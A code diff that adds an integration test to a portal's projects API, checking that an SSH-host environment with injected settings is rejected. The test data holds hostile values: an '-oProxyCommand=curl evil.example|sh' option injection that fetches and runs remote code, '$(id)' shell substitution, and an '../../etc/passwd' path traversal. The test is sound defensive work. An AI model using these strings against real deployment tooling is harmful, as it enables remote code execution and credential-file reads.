@@ -298,6 +298,14 @@ class ProjectsApiIT extends PortalTest {
         assertEquals(List.of("tier", "baseUrl", "target.settings.host", "target.settings.port", "target.settings.colour",
                 "overrides[0].service"), errorFields(environment));
 
+        JsonObject injected = problem(owner.call("POST", PROJECTS + "/api-checked/environments", """
+                {"name": "staging", "tier": "staging",
+                 "target": {"kind": "ssh-host", "settings": {"host": "-oProxyCommand=curl evil.example|sh", "user": "-oProxyCommand=sh",
+                            "directory": "/srv/$(id)", "composeFile": "../../etc/passwd"}}}"""), 400);
+        assertEquals(List.of("target.settings.host", "target.settings.user", "target.settings.directory", "target.settings.composeFile"),
+                errorFields(injected), "nothing a deployment runs can be read as an option or as shell syntax");
+        assertEquals(404, owner.call("GET", PROJECTS + "/api-checked/environments/staging", null).statusCode(), "nothing half-written");
+
         JsonObject member = problem(owner.call("POST", PROJECTS + "/api-checked/members", """
                 {"username": "nobody-by-that-name", "role": "viewer"}"""), 400);
         assertEquals(List.of("username"), errorFields(member), "a rule naming one field lists that field");
